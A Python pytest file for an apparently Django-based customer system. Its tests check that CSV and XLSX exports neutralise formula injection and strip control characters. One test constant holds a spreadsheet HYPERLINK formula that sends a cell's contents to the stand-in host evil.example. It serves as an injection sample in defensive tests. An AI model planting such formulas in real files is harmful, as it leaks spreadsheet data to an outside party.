"""Every CSV and XLSX the system writes is safe to open in a spreadsheet (issue 10): text a
person typed never becomes a live formula (CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from kefu.core.tables import csv_bytes, xlsx_bytes
from kefu.customers.tests.factories import make_customer
from kefu.customers.transfer import export_customers

pytestmark = pytest.mark.django_db
TRAP = '=HYPERLINK("http://evil.example/?x="&A2,"点此")'


def test_cells_starting_like_a_formula_are_text_in_csv_and_xlsx():
    rows = [[TRAP, "+86 138", "-5", "@SUM(1)", "\tx", "普通", 42]]
    text = csv_bytes(["a", "b", "c", "d", "e", "f", "g"], rows).decode("utf-8-sig")
    got = list(csv.reader(io.StringIO(text)))[1]
    assert got == ["'" + TRAP, "'+86 138", "'-5", "'@SUM(1)", "'\tx", "普通", "42"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["a"], [[TRAP, 42]]))).active
    trap, number = sheet["A2"], sheet["B2"]
    assert trap.data_type == "s" and trap.value == "'" + TRAP
    assert number.value == 42


def test_a_customer_export_carries_no_formula_from_a_name(manager):
    make_customer(manager, name=TRAP, phones=["13800001111"])
    data, _ = export_customers(actor=manager, fmt="xlsx")
    values = [c.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    assert "'" + TRAP in values and TRAP not in values
    data, _ = export_customers(actor=manager, fmt="csv")
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert "'" + TRAP in cells and TRAP not in cells


def test_a_control_character_cannot_break_an_xlsx_export():
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["a"], [["备\x00注\x07"]]))).active
    assert sheet["A2"].value == "备注"
